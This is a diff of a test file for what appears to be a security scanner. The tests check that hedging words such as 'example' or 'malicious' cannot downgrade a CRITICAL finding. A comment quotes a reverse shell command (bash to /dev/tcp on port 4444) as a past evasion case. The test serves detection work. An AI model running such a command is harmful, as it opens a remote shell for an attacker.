@@ -12,8 +12,34 @@ import { CASES, type Case } from './rule-cases.js';
  * `bash -i >& /dev/tcp/10.0.0.1/4444` into a WARN that passed `--fail-on critical`.)
  */
 const DOWNGRADE_WORDS = [
-  'example', 'e.g.', 'for example', 'for instance', 'such as', 'patterns like', 'insecure', 'malicious', 'attacker', 'attack', 'vulnerable',
-  'anti-pattern', 'detect', 'detected', 'flag', 'reject', 'avoid', 'never', "don't", 'do not', 'bad', 'wrong', 'unsafe', 'dangerous', 'blocked', '❌', '✗', '🚫',
+  'example',
+  'e.g.',
+  'for example',
+  'for instance',
+  'such as',
+  'patterns like',
+  'insecure',
+  'malicious',
+  'attacker',
+  'attack',
+  'vulnerable',
+  'anti-pattern',
+  'detect',
+  'detected',
+  'flag',
+  'reject',
+  'avoid',
+  'never',
+  "don't",
+  'do not',
+  'bad',
+  'wrong',
+  'unsafe',
+  'dangerous',
+  'blocked',
+  '❌',
+  '✗',
+  '🚫',
 ];
 const FRAMINGS: [string, (tp: string) => string][] = [
   ['example fence', (tp) => `For example, an attacker writes:\n\n\`\`\`python\n${tp}\n\`\`\`\n`],
@@ -43,7 +69,7 @@ describe('no word lowers a CRITICAL', () => {
       for (const c of positives) {
         const lines = c.text.replace(/\n+$/, '').split('\n');
         // On the matched line (the last non-empty one) and as a sentence after it.
-        const onLine = { ...c, text: `${lines.join("\n")} # ${word}\n` };
+        const onLine = { ...c, text: `${lines.join('\n')} # ${word}\n` };
         const after = { ...c, text: `${c.text.replace(/\n+$/, '')}\n\nThis is an ${word} (${word}).\n` };
         expect(severityOf(onLine, id), `${JSON.stringify(onLine.text)}`).toBe('CRITICAL');
         expect(severityOf(after, id), `${JSON.stringify(after.text)}`).toBe('CRITICAL');
